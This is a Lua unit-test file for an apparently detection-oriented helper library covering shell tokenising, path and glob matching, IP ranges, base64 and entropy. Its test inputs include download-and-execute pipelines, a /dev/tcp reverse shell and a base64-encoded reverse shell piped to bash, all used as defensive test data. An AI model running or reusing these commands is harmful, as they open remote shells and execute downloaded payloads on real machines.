-- Tests of sdk/lua/kestrel.lua. Pure Lua, sandbox globals only; expects the
-- library as the global `kestrel`. Raises an error listing every failed
-- check; otherwise returns a one-line summary. Run: python sdk/lua/tests/run.py
local K = kestrel
assert(type(K) == "table", "the library must be installed as the global kestrel")

local passed, failures = 0, {}

local function show(v)
  if type(v) == "string" then return string.format("%q", v) end
  return tostring(v)
end

local function eq(got, want, what)
  if got == want then
    passed = passed + 1
  else
    failures[#failures + 1] = what .. ": got " .. show(got) .. ", want " .. show(want)
  end
end

local function near(got, want, eps, what)
  if type(got) == "number" and math.abs(got - want) <= eps then
    passed = passed + 1
  else
    failures[#failures + 1] = what .. ": got " .. show(got) .. ", want ~" .. show(want)
  end
end

local function list_eq(got, want, what)
  local ok = type(got) == "table" and #got == #want
  if ok then
    for i = 1, #want do
      if got[i] ~= want[i] then ok = false end
    end
  end
  if ok then
    passed = passed + 1
  else
    local shown = {}
    if type(got) == "table" then
      for i = 1, #got do shown[i] = show(got[i]) end
    end
    failures[#failures + 1] = what .. ": got {" .. table.concat(shown, ", ") .. "}"
  end
end

local function bytes(...)
  return string.char(...)
end

---------------------------------------------------------------- strings
eq(K.startswith("bash -c x", "bash"), true, "startswith yes")
eq(K.startswith("bash", "bash -c"), false, "startswith longer prefix")
eq(K.startswith("bash", ""), true, "startswith empty prefix")
eq(K.startswith(nil, "a"), false, "startswith nil")
eq(K.startswith("a%b", "a%"), true, "startswith magic chars are plain")
eq(K.endswith("/tmp/x.sh", ".sh"), true, "endswith yes")
eq(K.endswith("sh", "x.sh"), false, "endswith longer suffix")
eq(K.endswith("abc", ""), true, "endswith empty suffix")
eq(K.endswith(nil, "a"), false, "endswith nil")
eq(K.contains("curl http://x | sh", "| sh"), true, "contains yes")
eq(K.contains("a.b", "."), true, "contains is plain (dot)")
eq(K.contains("ab", "."), false, "contains is plain (no dot)")
eq(K.contains("a(b", "("), true, "contains is plain (paren)")
eq(K.contains(nil, "x"), false, "contains nil subject")
eq(K.contains("x", nil), false, "contains nil needle")
eq(K.icontains("Invoke-WebRequest", "webrequest"), true, "icontains yes")
eq(K.icontains("ABC", "abd"), false, "icontains no")
eq(K.lower("BaSh"), "bash", "lower")
eq(K.lower(nil), nil, "lower nil")
eq(K.lower(5), nil, "lower number")
list_eq(K.split("a,b,c", ","), { "a", "b", "c" }, "split comma")
list_eq(K.split("a,,b,", ","), { "a", "", "b", "" }, "split keeps empty fields")
list_eq(K.split("a::b", "::"), { "a", "b" }, "split multi-char separator")
list_eq(K.split("a.b", "."), { "a", "b" }, "split separator is plain")
list_eq(K.split("", ","), { "" }, "split empty string")
list_eq(K.split("  bash   -c\t'id' \n", nil), { "bash", "-c", "'id'" }, "split on whitespace")
list_eq(K.split("   "), {}, "split whitespace only")
list_eq(K.split(nil, ","), {}, "split nil")
eq(pcall(K.split, "abc", ""), false, "split empty separator is an error")

local SW = K.shell_words
list_eq(SW("curl -fsSL http://x/a -o /tmp/a"), { "curl", "-fsSL", "http://x/a", "-o", "/tmp/a" }, "shell_words plain")
list_eq(SW("cd /tmp;wget -q x&&chmod +x y||true"),
  { "cd", "/tmp", ";", "wget", "-q", "x", "&&", "chmod", "+x", "y", "||", "true" }, "shell_words operators")
list_eq(SW("curl x | sh &"), { "curl", "x", "|", "sh", "&" }, "shell_words pipe and background")
list_eq(SW("bash -i >& /dev/tcp/h/1 0>&1 2>&1"), { "bash", "-i", ">&", "/dev/tcp/h/1", "0>&1", "2>&1" },
  "shell_words redirections keep &")
list_eq(SW("sh <&3 &>/dev/null"), { "sh", "<&3", "&>/dev/null" }, "shell_words <& and &>")
list_eq(SW("echo 'a b'\"c d\"e"), { "echo", "a bc de" }, "shell_words quotes")
list_eq(SW([[echo "a \"q\" \\ \x"]]), { "echo", [[a "q" \ \x]] }, "shell_words double-quote escapes")
list_eq(SW([[a\ b c\;d]]), { "a b", "c;d" }, "shell_words backslash")
list_eq(SW("echo ''"), { "echo", "" }, "shell_words empty quotes")
list_eq(SW("echo 'unterminated"), { "echo", "unterminated" }, "shell_words unterminated quote")
list_eq(SW("a\nb\n\nc"), { "a", ";", "b", ";", "c" }, "shell_words newlines")
list_eq(SW("a |& b"), { "a", "|", "b" }, "shell_words |&")
list_eq(SW("a |& 'b'"), { "a", "|", "b" }, "shell_words |& (quoted path)")
list_eq(SW(";a;;b;"), { "a", ";", "b", ";" }, "shell_words separators collapse")
list_eq(SW(";'a';;b;"), { "a", ";", "b", ";" }, "shell_words separators collapse (quoted path)")
list_eq(SW("a\n\nb"), { "a", ";", "b" }, "shell_words newlines (plain path)")
list_eq(SW("'a'\n\nb"), { "a", ";", "b" }, "shell_words newlines (quoted path)")
list_eq(SW("x 2>&1 &>/dev/null <&3 & y && z || w"),
  { "x", "2>&1", "&>/dev/null", "<&3", "&", "y", "&&", "z", "||", "w" }, "shell_words plain path operators")
list_eq(SW("'x' 2>&1 &>/dev/null <&3 & y && z || w"),
  { "x", "2>&1", "&>/dev/null", "<&3", "&", "y", "&&", "z", "||", "w" }, "shell_words quoted path operators")
list_eq(SW("a\1b c"), { "a\1b", "c" }, "shell_words control bytes kept")
list_eq(SW("cd /tmp;wget -q x&&chmod +x y||true|sh&"),
  { "cd", "/tmp", ";", "wget", "-q", "x", "&&", "chmod", "+x", "y", "||", "true", "|", "sh", "&" }, "shell_words glued operators")
list_eq(SW("  \t "), {}, "shell_words blank")
list_eq(SW(nil), {}, "shell_words nil")
local cmds = K.shell_commands("cd /tmp; curl -O http://x/y && chmod +x y && ./y")
eq(#cmds, 4, "shell_commands count")
list_eq(cmds[1], { "cd", "/tmp" }, "shell_commands 1")
list_eq(cmds[2], { "curl", "-O", "http://x/y" }, "shell_commands 2")
list_eq(cmds[4], { "./y" }, "shell_commands 4")
eq(#K.shell_commands(";;"), 0, "shell_commands operators only")
eq(#K.shell_commands(nil), 0, "shell_commands nil")

---------------------------------------------------------------- paths
eq(K.basename("/usr/bin/python3"), "python3", "basename")
eq(K.basename("/usr/lib/"), "lib", "basename trailing slash")
eq(K.basename("/usr/lib//"), "lib", "basename trailing slashes")
eq(K.basename("/"), "/", "basename root")
eq(K.basename("//"), "/", "basename double root")
eq(K.basename("name"), "name", "basename bare")
eq(K.basename(""), "", "basename empty")
eq(K.basename(nil), nil, "basename nil")
local longname = string.rep("x", 100)
eq(K.basename("/a/" .. longname), longname, "basename long last component")
eq(K.basename("/a/" .. longname .. "/"), longname, "basename long last component, trailing slash")
eq(K.basename(longname), longname, "basename long, no slash")
eq(K.dirname("/a/b/" .. longname), "/a/b", "dirname long last component")
eq(K.dirname("/" .. longname), "/", "dirname long top-level")
eq(K.extension("/tmp/" .. longname .. ".PY"), "py", "extension long name")
eq(K.extension("/tmp/x.tar." .. longname), longname, "extension long extension")
eq(K.extension("/tmp/." .. longname), nil, "extension long dotfile")
eq(K.extension(longname), nil, "extension long, none")
eq(K.dirname("/usr/bin/python3"), "/usr/bin", "dirname")
eq(K.dirname("/usr/lib/"), "/usr", "dirname trailing slash")
eq(K.dirname("/bin"), "/", "dirname top-level")
eq(K.dirname("/"), "/", "dirname root")
eq(K.dirname("name"), ".", "dirname bare")
eq(K.dirname("a/b"), "a", "dirname relative")
eq(K.dirname("/usr//bin"), "/usr", "dirname double slash")
eq(K.dirname(""), ".", "dirname empty")
eq(K.dirname(nil), nil, "dirname nil")
eq(K.extension("/tmp/payload.SH"), "sh", "extension lower-cased")
eq(K.extension("a.tar.gz"), "gz", "extension last")
eq(K.extension("/home/u/.bashrc"), nil, "extension dotfile")
eq(K.extension("/home/u/.config.bak"), "bak", "extension dotfile with extension")
eq(K.extension("Makefile"), nil, "extension none")
eq(K.extension("file."), nil, "extension empty")
eq(K.extension("/a.d/file"), nil, "extension dot in directory")
eq(K.extension("/tmp/x.py/"), "py", "extension trailing slash")
eq(K.extension(nil), nil, "extension nil")
eq(K.normpath("/var/tmp/../../tmp//./x"), "/tmp/x", "normpath")
eq(K.normpath("/var/tmp/../tmp/x"), "/var/tmp/x", "normpath one level")
eq(K.normpath("/../../etc"), "/etc", "normpath above root")
eq(K.normpath("a/./b/../c"), "a/c", "normpath relative")
eq(K.normpath("../a"), "../a", "normpath leading ..")
eq(K.normpath("./"), ".", "normpath dot")
eq(K.normpath("/"), "/", "normpath root")
eq(K.under("/tmp/x", "/tmp"), true, "under inside")
eq(K.under("/tmp", "/tmp"), true, "under itself")
eq(K.under("/tmp", "/tmp/"), true, "under dir with slash")
eq(K.under("/tmp/", "/tmp"), true, "under path with slash")
eq(K.under("/tmp/a/b/c", "/tmp/a"), true, "under deep")
eq(K.under("/tmpfoo/x", "/tmp"), false, "under component boundary")
eq(K.under("/tm", "/tmp"), false, "under shorter")
eq(K.under("/var/tmp/../../tmp/x", "/tmp"), true, "under normalises ..")
eq(K.under("/var/tmp/../tmp/x", "/tmp"), false, "under normalises .. (stays in /var)")
eq(K.under("/tmp/../etc/passwd", "/tmp"), false, "under .. escapes")
eq(K.under("/tmp//./x", "/tmp"), true, "under normalises // and .")
eq(K.under("/etc/passwd", "/"), true, "under root")
eq(K.under("tmp/x", "/tmp"), false, "under relative path")
eq(K.under("/TMP/x", "/tmp"), false, "under is case-sensitive")
eq(K.under("/home/u/.ssh/id_rsa", "/home/u/.ssh"), true, "under with dot component")
eq(K.under(nil, "/tmp"), false, "under nil path")
eq(K.under("/tmp/x", nil), false, "under nil dir")

---------------------------------------------------------------- glob
local G = K.glob
eq(G("bash", "bash"), true, "glob literal")
eq(G("bash", "bas"), false, "glob literal is anchored")
eq(G("bash", "b*"), true, "glob prefix")
eq(G("bash", "*sh"), true, "glob suffix")
eq(G("bash", "*as*"), true, "glob infix")
eq(G("bash", "b?sh"), true, "glob ?")
eq(G("bash", "b?s"), false, "glob ? anchored")
eq(G("bash", "?????"), false, "glob too many ?")
eq(G("bash", "*"), true, "glob star")
eq(G("", "*"), true, "glob star on empty")
eq(G("", ""), true, "glob empty on empty")
eq(G("", "?"), false, "glob ? on empty")
eq(G("abc", "a*b*c"), true, "glob a*b*c")
eq(G("aXbYc", "a*b*c"), true, "glob a*b*c with fillers")
eq(G("abc", "a*c*c"), false, "glob a*c*c")
eq(G("abc", "**a**"), true, "glob stars")
eq(G("abc", "**x**"), false, "glob stars miss")
eq(G("abc", "**a**c"), true, "glob stars 2")
eq(G("mississippi", "*sip*"), true, "glob mississippi 1")
eq(G("mississippi", "m*iss*ppi"), true, "glob mississippi 2")
eq(G("mississippi", "m*iss*iss*ppi"), true, "glob mississippi 3")
eq(G("mississippi", "m*iss*iss*iss*ppi"), false, "glob mississippi 4")
eq(G("mississippi", "m*?ss?*i"), true, "glob mississippi 5")
eq(G("ab", "a*?b"), false, "glob a*?b on ab")
eq(G("axb", "a*?b"), true, "glob a*?b on axb")
eq(G("abab", "*ab"), true, "glob *ab")
eq(G("aaa", "a*a*a*a"), false, "glob overlapping stars 1")
eq(G("aaaa", "a*a*a*a"), true, "glob overlapping stars 2")
eq(G("xaybzc", "*a?b?c"), true, "glob ? segment at end")
eq(G("xaybzcd", "*a?b?c"), false, "glob ? segment at end, extra")
eq(G("xaybzcd", "*a?b?c*"), true, "glob ? segment middle")
eq(G("aab", "*a?"), true, "glob *a?")
eq(G("a.b", "a.b"), true, "glob dot literal")
eq(G("axb", "a.b"), false, "glob dot is not a Lua pattern")
eq(G("50%", "50%"), true, "glob percent literal")
eq(G("a[b]", "a[b]"), true, "glob brackets literal")
eq(G("a+b", "a?b"), true, "glob ? matches magic char")
eq(G("/tmp/x/y", "/tmp/*"), true, "glob path")
eq(G("/home/alice/.ssh/id_rsa", "/home/*/.ssh/*"), true, "glob ssh path")
eq(G("/home/.ssh", "/home/*/.ssh/*"), false, "glob ssh path miss")
eq(G("BASH", "bash", true), true, "glob ci")
eq(G("BASH", "bash"), false, "glob case-sensitive by default")
eq(G("Bash", "*SH", true), true, "glob ci suffix")
eq(G("BaSh", "B?S*", true), true, "glob ci ?")
eq(G(nil, "*"), false, "glob nil subject")
eq(G("x", nil), false, "glob nil pattern")
eq(G("a\0b", "a?b"), true, "glob NUL byte")
local ok, which = K.glob_any("/dev/shm/.x", { "/tmp/*", "/dev/shm/*" })
eq(ok, true, "glob_any yes")
eq(which, "/dev/shm/*", "glob_any returns the pattern")
eq(K.glob_any("/home/x", { "/tmp/*", "/dev/shm/*" }), false, "glob_any no")
eq(K.glob_any("CURL", { "wget", "curl" }, true), true, "glob_any ci")
eq(K.glob_any(nil, { "*" }), false, "glob_any nil")
eq(K.glob_any("x", nil), false, "glob_any nil patterns")
-- adversarial inputs stay cheap (no backtracking)
local long_a = string.rep("a", 100000)
eq(G(long_a, "*a*a*a*a*a*a*a*a*b"), false, "glob long adversarial 1")
eq(G(long_a, "*a?a?a?a?b*"), false, "glob long adversarial 2")
eq(G(long_a .. "b", "*a?a?a?a?b"), true, "glob long adversarial 3")
eq(G(long_a, "a*" .. string.rep("?", 50) .. "*a"), true, "glob long ? run")

---------------------------------------------------------------- IP addresses
local function ipn(s)
  local n, v = K.ip_parse(s)
  return n, v
end
local n4, v4 = ipn("192.168.1.1")
eq(n4, "192.168.1.1", "ip_parse v4")
eq(v4, 4, "ip_parse v4 version")
eq(ipn("0.0.0.0"), "0.0.0.0", "ip_parse zeros")
eq(ipn("255.255.255.255"), "255.255.255.255", "ip_parse max")
for _, bad in ipairs({ "256.1.1.1", "1.2.3", "1.2.3.4.5", "01.2.3.4", "1..2.3", "1.2.3.", ".1.2.3",
  " 1.2.3.4", "1.2.3.4 ", "a.b.c.d", "1234.1.1.1", "", "1", "-1.2.3.4" }) do
  eq(ipn(bad), nil, "ip_parse rejects " .. show(bad))
end
eq(ipn(nil), nil, "ip_parse nil")
eq(ipn(17), nil, "ip_parse number")
local n6, v6 = ipn("2001:DB8:0:0:0:0:0:1")
eq(n6, "2001:db8::1", "ip_parse v6 compress")
eq(v6, 6, "ip_parse v6 version")
eq(ipn("::"), "::", "ip_parse ::")
eq(ipn("::1"), "::1", "ip_parse ::1")
eq(ipn("1::"), "1::", "ip_parse 1::")
eq(ipn("0:0:0:0:0:0:0:0"), "::", "ip_parse all zero")
eq(ipn("2001:db8:0:1:0:0:0:1"), "2001:db8:0:1::1", "ip_parse longest run")
eq(ipn("2001:0:0:1:0:0:0:1"), "2001:0:0:1::1", "ip_parse longest run second")
eq(ipn("2001:db8:0:0:1:0:0:1"), "2001:db8::1:0:0:1", "ip_parse tie takes first")
eq(ipn("1:0:2:3:4:5:6:7"), "1:0:2:3:4:5:6:7", "ip_parse single zero kept")
eq(ipn("2001:0db8:0000:0000:0000:ff00:0042:8329"), "2001:db8::ff00:42:8329", "ip_parse leading zeros")
eq(ipn("::1:2:3:4:5:6:7"), "0:1:2:3:4:5:6:7", "ip_parse :: for one group")
eq(ipn("::ffff:192.0.2.1"), "::ffff:192.0.2.1", "ip_parse mapped")
eq(ipn("::FFFF:c000:0201"), "::ffff:192.0.2.1", "ip_parse mapped in hex")
eq(ipn("0:0:0:0:0:ffff:192.0.2.1"), "::ffff:192.0.2.1", "ip_parse mapped long")
eq(ipn("::1.2.3.4"), "::102:304", "ip_parse compatible")
eq(ipn("1:2:3:4:5:6:1.2.3.4"), "1:2:3:4:5:6:102:304", "ip_parse v4 tail, no ::")
eq(ipn("fe80::1%eth0"), "fe80::1", "ip_parse zone dropped")
for _, bad in ipairs({ "1:2:3:4:5:6:7:8:9", "12345::", "1:::2", "::1::", "1::2::3", "g::1",
  "1:2:3:4:5:6:7", ":1::2", "1::2:", ":1:2:3:4:5:6:7:8", "::1.2.3", "1.2.3.4::",
  "1:2:3:4:5:6:7:1.2.3.4", "::ffff:1.2.3.256", "fe80::1%", "[::1]", ":", "1:2:3:4:5:6:7:8::",
  "1.2.3.4:80" }) do
  eq(ipn(bad), nil, "ip_parse rejects " .. show(bad))
end

local C = K.cidr_match
eq(C("10.1.2.3", "10.0.0.0/8"), true, "cidr /8")
eq(C("11.0.0.1", "10.0.0.0/8"), false, "cidr /8 miss")
eq(C("172.31.255.255", "172.16.0.0/12"), true, "cidr /12 edge")
eq(C("172.32.0.0", "172.16.0.0/12"), false, "cidr /12 miss")
eq(C("172.15.255.255", "172.16.0.0/12"), false, "cidr /12 below")
eq(C("192.168.1.1", "192.168.1.1"), true, "cidr bare host")
eq(C("192.168.1.2", "192.168.1.1"), false, "cidr bare host miss")
eq(C("192.168.1.1", "192.168.1.1/32"), true, "cidr /32")
eq(C("1.2.3.4", "0.0.0.0/0"), true, "cidr /0")
eq(C("10.9.9.9", "10.1.2.3/8"), true, "cidr host bits ignored")
eq(C("100.127.255.255", "100.64.0.0/10"), true, "cidr /10")
eq(C("100.128.0.0", "100.64.0.0/10"), false, "cidr /10 miss")
eq(C("8.8.8.8", "10.0.0.0/8", "8.8.0.0/16"), true, "cidr second argument")
eq(C("8.8.8.8", { "10.0.0.0/8", "8.8.8.0/24" }), true, "cidr table argument")
eq(C("8.8.8.8", { "10.0.0.0/8" }, "9.0.0.0/8"), false, "cidr mixed miss")
eq(C("2001:db8::5", "2001:db8::/32"), true, "cidr v6")
eq(C("2001:db9::5", "2001:db8::/32"), false, "cidr v6 miss")
eq(C("fe80::1", "fe80::/10"), true, "cidr v6 /10")
eq(C("febf:ffff::1", "fe80::/10"), true, "cidr v6 /10 edge")
eq(C("fec0::1", "fe80::/10"), false, "cidr v6 /10 miss")
eq(C("::1", "::1/128"), true, "cidr v6 /128")
eq(C("::2", "::1/128"), false, "cidr v6 /128 miss")
eq(C("2001:db8::1", "::/0"), true, "cidr v6 /0")
eq(C("::ffff:10.0.0.1", "10.0.0.0/8"), true, "cidr mapped matches v4 network")
eq(C("::ffff:10.0.0.1", "::ffff:0:0/96"), true, "cidr mapped matches v6 network")
eq(C("10.0.0.1", "::ffff:0:0/96"), false, "cidr v4 does not match v6 network")
eq(C("10.0.0.1", "::/0"), false, "cidr v4 not in ::/0")
eq(C("2001:db8::1", "0.0.0.0/0"), false, "cidr v6 not in 0.0.0.0/0")
eq(C("10.0.0.1", "10.0.0.0/33"), false, "cidr bad prefix")
eq(C("10.0.0.1", "10.0.0.0/"), false, "cidr empty prefix")
eq(C("10.0.0.1", "10.0.0.0/a"), false, "cidr non-numeric prefix")
eq(C("10.0.0.1", "10.0.0.0/-1"), false, "cidr negative prefix")
eq(C("10.0.0.1", "garbage"), false, "cidr garbage network")
eq(C("10.0.0.1", nil, "10.0.0.0/8"), true, "cidr nil network skipped")
eq(C(nil, "0.0.0.0/0"), false, "cidr nil address")
eq(C("not-an-ip", "0.0.0.0/0"), false, "cidr bad address")
eq(C("10.0.0.1"), false, "cidr no networks")

local P = K.is_private_ip
for _, a in ipairs({ "10.0.0.1", "10.255.255.255", "172.16.0.1", "172.31.1.1", "192.168.0.1",
  "127.0.0.1", "127.1.2.3", "169.254.169.254", "100.64.0.1", "100.127.255.254", "0.0.0.0",
  "fd12:3456::1", "fc00::1", "fe80::1", "::1", "::", "::ffff:192.168.0.1", "::ffff:127.0.0.1" }) do
  eq(P(a), true, "is_private_ip " .. a)
end
for _, a in ipairs({ "8.8.8.8", "203.0.113.7", "172.32.0.1", "192.169.0.1", "100.128.0.1",
  "1.1.1.1", "2001:4860:4860::8888", "2606:4700::1111", "::ffff:8.8.8.8", "fec0::1", "::2",
  "not-an-ip", "" }) do
  eq(P(a), false, "is_private_ip " .. show(a))
end
eq(P(nil), false, "is_private_ip nil")

---------------------------------------------------------------- encodings
local B = K.base64_decode
eq(B("Zm9vYmFy"), "foobar", "b64 foobar")
eq(B("Zm9vYmE="), "fooba", "b64 padded 1")
eq(B("Zm9vYmE"), "fooba", "b64 unpadded 1")
eq(B("Zm9vYg=="), "foob", "b64 padded 2")
eq(B("Zm9vYg"), "foob", "b64 unpadded 2")
eq(B("Zg=="), "f", "b64 f")
eq(B("Zg"), "f", "b64 f unpadded")
eq(B(""), "", "b64 empty")
eq(B("Zm9vYg="), nil, "b64 wrong padding")
eq(B("Zm9vY==="), nil, "b64 too much padding")
eq(B("Z"), nil, "b64 one char")
eq(B("Zm9vY"), nil, "b64 5 chars")
eq(B("Zm9v YmFy"), nil, "b64 space")
eq(B("Zm9v!mFy"), nil, "b64 bad char")
eq(B("Zm=vYmFy"), nil, "b64 padding in the middle")
eq(B("=="), nil, "b64 padding only")
eq(B(nil), nil, "b64 nil")
eq(B("Zm9v\233mFy"), nil, "b64 non-ASCII byte")
eq(B("Zm9vYmFy\0"), nil, "b64 NUL byte")
eq(B("Zm9vYmFy===="), nil, "b64 four padding")
eq(B("Zm9vYmFyYQ"), "foobara", "b64 unpadded 7")
eq(B("AAAA"), bytes(0, 0, 0), "b64 zero bytes")
eq(B("-vv8_f7_-_8="), bytes(250, 251, 252, 253, 254, 255, 251, 255), "b64 url-safe")
eq(B("+vv8/f7/+/8="), bytes(250, 251, 252, 253, 254, 255, 251, 255), "b64 standard same bytes")
eq(B("YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE="),
  "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "b64 reverse shell")
-- a long input crosses the 4096-byte chunk boundary
local big = string.rep("QUJD", 5000) -- "ABC" * 5000
eq(B(big), string.rep("ABC", 5000), "b64 long input")
list_eq(K.base64_runs("echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE= | base64 -d | bash"),
  { "YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE=" }, "base64_runs one run")
list_eq(K.base64_runs("b64decode('aGVsbG8gd29ybGQ=')+'=='", 10), { "aGVsbG8gd29ybGQ=" }, "base64_runs quoted")
list_eq(K.base64_runs("b64decode('aGVsbG8gd29ybGQ=')", 8), { "b64decode", "aGVsbG8gd29ybGQ=" }, "base64_runs min_len")
list_eq(K.base64_runs("a=ZGVwbG95OnMzY3IzdC10b2tlbg==,b=short", 16),
  { "ZGVwbG95OnMzY3IzdC10b2tlbg==" }, "base64_runs key=value")
list_eq(K.base64_runs("ls -la /tmp", 16), {}, "base64_runs none")
list_eq(K.base64_runs("aaaa bbbbbbbb cccccccccccccccc dddddddddddddddddddd", 20), { "dddddddddddddddddddd" },
  "base64_runs min_len above 16")
list_eq(K.base64_runs("aaaaaaaa bbbbbbbb cccccccc", 8, 2), { "aaaaaaaa", "bbbbbbbb" }, "base64_runs max_runs")
list_eq(K.base64_runs("abcdefghijklmnopq==="), { "abcdefghijklmnopq==" }, "base64_runs at most two =")
list_eq(K.base64_runs(string.rep("ab ", 2000) .. "YWJjZGVmZ2hpamtsbW5vcA=="), { "YWJjZGVmZ2hpamtsbW5vcA==" },
  "base64_runs skips short runs")
list_eq(K.base64_runs(nil), {}, "base64_runs nil")

eq(K.hex_decode("68656c6c6f"), "hello", "hex")
eq(K.hex_decode("48454C4C4F"), "HELLO", "hex upper")
eq(K.hex_decode("0x4142"), "AB", "hex 0x prefix")
eq(K.hex_decode(""), "", "hex empty")
eq(K.hex_decode("abc"), nil, "hex odd length")
eq(K.hex_decode("zz"), nil, "hex bad digit")
eq(K.hex_decode(nil), nil, "hex nil")
eq(K.hex_decode("00ff"), bytes(0, 255), "hex bytes")
eq(K.hex_decode("aBcD"), bytes(171, 205), "hex mixed case")
eq(K.hex_decode("0x"), "", "hex bare prefix")
eq(K.hex_decode("12 34"), nil, "hex space")
eq(K.hex_decode("1g"), nil, "hex g")

near(K.entropy("aaaa"), 0, 1e-9, "entropy constant")
near(K.entropy("ab"), 1, 1e-9, "entropy 2 symbols")
near(K.entropy("abcd"), 2, 1e-9, "entropy 4 symbols")
near(K.entropy("aab"), 0.9182958340544896, 1e-9, "entropy skewed")
local all = {}
for b = 0, 255 do all[#all + 1] = string.char(b) end
near(K.entropy(table.concat(all)), 8, 1e-9, "entropy all bytes")
eq(K.entropy(""), 0, "entropy empty")
eq(K.entropy(nil), 0, "entropy nil")
near(K.entropy("abcd"), 2, 1e-9, "entropy is repeatable (scratch counts cleared)")
near(K.entropy(string.rep("ab", 1000)), 1, 1e-9, "entropy long, 2 symbols")
near(K.entropy(string.rep("abcd", 33) .. "e"), 2.0488161, 1e-6, "entropy long with tail")
near(K.entropy(string.rep(table.concat(all), 3) .. "x"), 7.9997184, 1e-6, "entropy long all bytes")
near(K.entropy("abcd"), 2, 1e-9, "entropy short after long (counts cleared)")
near(K.entropy(string.rep("a", 200)), 0, 1e-9, "entropy long constant")

eq(K.printable_ratio("hello world\n"), 1, "printable all")
near(K.printable_ratio("ab" .. bytes(0, 255)), 0.5, 1e-9, "printable half")
eq(K.printable_ratio(bytes(1, 2, 127, 200)), 0, "printable none")
eq(K.printable_ratio(""), 0, "printable empty")
eq(K.printable_ratio(nil), 0, "printable nil")

---------------------------------------------------------------- tables
local hit, v = K.any({ "a", "b" }, function(x) return x == "b" end)
eq(hit, true, "any function yes")
eq(v, "b", "any returns the element")
eq(K.any({ "a", "b" }, function(x) return x == "c" end), false, "any function no")
eq(K.any({ "bash", "-c" }, "-c"), true, "any value yes")
eq(K.any({ "bash", "-c" }, "-i"), false, "any value no")
eq(K.any(nil, "x"), false, "any nil")
eq(K.any({}, "x"), false, "any empty")
eq(K.count({ 1, 2, 3 }), 3, "count array")
eq(K.count({ a = 1, b = 2, 3 }), 3, "count mixed")
eq(K.count(nil), 0, "count nil")
local S = K.set({ "bash", "sh" })
eq(S.bash, true, "set member")
eq(S.zsh, nil, "set non-member")
eq(K.count(K.set(nil)), 0, "set nil")

if #failures > 0 then
  error(#failures .. " failed (" .. passed .. " passed):\n  " .. table.concat(failures, "\n  "), 0)
end
return passed .. " checks passed"
